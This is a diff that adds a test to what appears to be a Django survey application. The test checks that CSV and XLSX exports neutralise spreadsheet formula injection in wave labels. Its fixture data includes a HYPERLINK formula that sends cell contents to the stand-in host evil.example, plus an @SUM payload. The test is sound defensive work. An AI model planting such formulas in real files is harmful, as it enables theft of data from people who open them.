@@ -120,3 +120,24 @@ def test_an_employee_sees_no_results(world, answered) -> None:
     client.force_login(world.users["employee"])
     url = f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results/"
     assert client.get(url).status_code == 403
+
+
+def test_the_exports_keep_a_wave_label_that_looks_like_a_formula_as_text(world, answered) -> None:
+    from openpyxl import load_workbook
+
+    labels = ['=HYPERLINK("https://evil.example/?"&A1,"Apri")', "@SUM(A1:A9)"]
+    for wave, label in zip(answered.waves.order_by("opens_on"), labels, strict=True):
+        Wave.objects.filter(pk=wave.pk).update(label=label)
+    client = Client()
+    client.force_login(world.users["hr_admin"])
+    base = f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results"
+    rows = list(
+        csv.reader(
+            io.StringIO(client.get(base + ".csv").content.decode("utf-8-sig")), delimiter=";"
+        )
+    )
+    assert {r[0] for r in rows[1:]} >= {"'" + label for label in labels}
+    book = load_workbook(io.BytesIO(client.get(base + ".xlsx").content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
+    assert {c.value for c in cells if c.data_type == "s"} >= set(labels)
+    assert [c.value for c in cells if c.data_type == "f"] == []
